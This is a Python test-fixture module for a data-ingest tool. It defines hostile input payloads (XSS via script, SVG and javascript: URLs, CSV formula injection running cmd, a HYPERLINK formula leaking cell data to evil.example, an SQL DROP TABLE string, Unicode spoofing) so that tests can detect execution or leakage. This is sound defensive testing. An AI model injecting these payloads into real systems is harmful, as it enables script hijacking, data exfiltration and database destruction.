"""The hostile values: what an adversary writes into posts, names, bios and URLs, and the records
(`Item`) that carry them, in canonical field names, before any layout's syntax.

Every payload that would run script sets `window.__pwned` or fetches from `evil.example`, so a browser
test can tell whether anything ran or anything left the page.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import ClassVar

from unmask.ingest.records import RejectReason

EVIL = "https://evil.example"
PAYLOADS: dict[str, str] = {
    "script": f'<script>window.__pwned=1;fetch("{EVIL}/script")</script>',
    "script_after_close": "</title></textarea></style></script><script>window.__pwned=2</script>",
    "img_onerror": f'<img src="{EVIL}/img.png" onerror="window.__pwned=3">',
    "attr_breakout": '"><svg onload=window.__pwned=4>',
    "single_quote_breakout": "'><body onload='window.__pwned=5'>",
    "svg_script": (
        '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=6</script>'
        '<a href="javascript:window.__pwned=7"><text y="9">svg</text></a></svg>'
    ),
    "svg_animate": "<svg><animate onbegin=window.__pwned=8 attributeName=x dur=1s></svg>",
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.__pwned=9</script>"></iframe>',
    "css_fetch": f'<style>@import "{EVIL}/a.css";body{{background:url({EVIL}/bg)}}</style>',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    "base_href": f'<base href="{EVIL}/">',
    "link_stylesheet": f'<link rel="stylesheet" href="{EVIL}/link.css">',
    "js_url": "javascript:window.__pwned=10",
    "js_url_mixed_case": " JaVaScRiPt:window.__pwned=11",
    "js_url_tab": "java\tscript:window.__pwned=12",
    "data_url": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xMzwvc2NyaXB0Pg==",
    "http_url_breakout": f'{EVIL}/"onmouseover="window.__pwned=14',
    "markdown_link": f"[click](javascript:window.__pwned=15) ![x]({EVIL}/md.png) | cell | <!-- x -->",
    "template": "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "formula_hyperlink": f'=HYPERLINK("{EVIL}/?leak="&A1,"click me")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "bidi": "\u202eexe.gnp\u202c \u2066isolated\u2069 \u200fright\u200e",
    "zero_width": "pay\u200bpal\u200c\u200d\u2060\ufeffx",
    "controls": "\x1b[31mred\x1b[0m\x07\x08\x0b\x0c\x7f\x85",
    "noncharacters": "\ufffe\uffff\U0010fffe",
    "nested_json_text": "[" * 5000 + "]" * 5000 + '{"a":' * 2000 + "1" + "}" * 2000,
    "sql": "'; DROP TABLE posts; --",
    "line_breaks": "one\ntwo\r\nthree\rfour\u2028five\u2029six",
    "emoji": "\U0001f469\u200d\U0001f4bb \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f4a9",
}
# Payloads that are URLs (the profile link, a post's links); every payload is tried in URL fields too.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
MIB = 1 << 20
MANY = 10**6


def big_text() -> str:
    """Exactly 1 MiB of characters: every payload, repeated."""
    unit = " ".join(PAYLOADS.values()) + " "
    return (unit * (MIB // len(unit) + 1))[:MIB]


def many_hashtags() -> list[str]:
    return [f"tag{i}" for i in range(MANY)]


NUL_TEXT = "before\x00after <script>window.__pwned=16</script>"
BAD_UTF8_TEXT = "caf\udcc3 \udcff\udcfe\udcc3( end"  # bytes c3 20, ff, fe, c3 28: not UTF-8 (surrogateescape)


# -- timestamps ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Stamp:
    """A calendar time that may lie outside what `datetime` holds (year 0)."""

    year: int
    month: int = 1
    day: int = 1
    hour: int = 0
    minute: int = 0

    def iso(self) -> str:
        return f"{self.year:04d}-{self.month:02d}-{self.day:02d}T{self.hour:02d}:{self.minute:02d}:00"

    def posix(self) -> int:
        """Seconds since 1970 in the proleptic Gregorian calendar (Hinnant's days_from_civil)."""
        y = self.year - (self.month <= 2)
        era = y // 400
        yoe = y - era * 400
        doy = (153 * (self.month + (-3 if self.month > 2 else 9)) + 2) // 5 + self.day - 1
        days = era * 146097 + yoe * 365 + yoe // 4 - yoe // 100 + doy - 719468
        return days * 86400 + self.hour * 3600 + self.minute * 60

    def strftime(self, pattern: str) -> str:
        """The stamp in a strptime pattern (the year written in by hand: strftime cannot write year 0)."""
        text = datetime(2000, self.month, self.day, self.hour, self.minute).strftime(pattern)
        return text.replace("2000", f"{self.year:04d}", 1)

    def value(self) -> datetime:
        return datetime(self.year, self.month, self.day, self.hour, self.minute)


NORMAL = Stamp(2023, 9, 1, 12, 0)
# unmask stores timestamps from 1970-01-01 up to (not including) 2100-01-01; outside it, BAD_TIMESTAMP.
IN_RANGE = (Stamp(1970, 1, 1, 0, 0), Stamp(2099, 12, 31, 23, 59))
OUT_OF_RANGE = (Stamp(0, 1, 1, 0, 0), Stamp(9999, 12, 31, 23, 59), Stamp(1969, 12, 31, 23, 59), Stamp(2100))


# -- records carrying them -----------------------------------------------------------------


@dataclass
class Item:
    """One post (with its author) of the corpus, in canonical field names; a renderer writes it.

    `post` and `account` hold the payload-carrying fields (list fields as lists); `reject` is the
    reason the record must be rejected for, or None when it must be stored. `nest` (JSON layouts only)
    adds a member nested that deep; `raw_nul` writes the text's NUL as a raw byte, not as `\\u0000`.
    """

    key: str
    label: str  # what the item tests, for messages
    created_at: Stamp = NORMAL
    account_created_at: Stamp | None = None
    post: dict[str, object] = field(default_factory=dict)
    account: dict[str, str] = field(default_factory=dict)
    reject: RejectReason | None = None
    nest: int = 0
    raw_nul: bool = False
    either: tuple[RejectReason | None, ...] = ()  # nesting sweep: the outcomes allowed (None: stored)


def field_value(item: Item, name: str) -> object:
    """A carried field's value: `post.text`, `account.bio`, ..."""
    part, _, key = name.partition(".")
    return (item.post if part == "post" else item.account)[key]


# -- what renders items in one layout's syntax ------------------------------------------------------

Expect = Callable[[object], object]  # a value as written -> the value the store must hold


def same(value: object) -> object:
    return value


def one_item(value: object) -> list:
    return value if isinstance(value, list) else [value]


class Renderer:
    """Writes corpus items in one layout's syntax, and says what the store must hold afterwards."""

    suffix = ".csv"
    is_json = False  # records are JSON values: the nesting and raw-NUL cases apply
    carriers: ClassVar[dict[str, Expect]] = {}  # canonical field -> what the store holds for a value

    def account_id(self, key: str) -> str:
        """The account id an item's record carries: it finds the item's rows in the store."""
        return f"a-{key}"

    def holds_many(self, name: str) -> bool:
        """Whether one record can hold many items of list field `name` (not one object per row)."""
        return name in self.carriers

    def write(self, items: list[Item], path: Path) -> None:
        raise NotImplementedError
